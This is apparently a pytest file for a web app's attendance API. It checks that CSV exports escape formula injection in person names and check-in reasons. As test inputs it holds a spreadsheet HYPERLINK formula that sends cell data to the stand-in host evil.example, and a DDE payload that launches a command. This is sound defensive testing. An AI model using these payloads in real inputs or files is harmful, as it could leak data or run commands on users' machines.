"""Exports opened in a spreadsheet never run what people typed (issue 9 §6)."""

import csv
import io

from server.tables import Person
from tests.api.attendance_helpers import current_code, open_session


def test_attendance_csv_neutralises_formulas_in_names_and_reasons(client, as_user):
    dept = as_user("dept1")
    _, session = open_session(client, dept, as_user("unit1"))
    me = client.get("/api/me", headers=as_user("trainee1")).json()["person_id"]

    async def rename():
        await Person.update({Person.name: '=HYPERLINK("http://evil.example/?"&A1,"点击")'}).where(Person.id == me)

    client.blocking_portal.call(rename)
    response = client.post(f"/api/sessions/{session['id']}/checkins", headers=dept,
                           json={"person_id": me, "reason": "=cmd|' /C calc'!A0"})
    assert response.status_code == 201, response.text
    rows = list(csv.reader(io.StringIO(client.get(f"/api/sessions/{session['id']}/attendance.csv",
                                                  headers=dept).content.decode("utf-8-sig"))))
    assert rows[1][1] == '\'=HYPERLINK("http://evil.example/?"&A1,"点击")'
    assert rows[1][7] == "'=cmd|' /C calc'!A0"
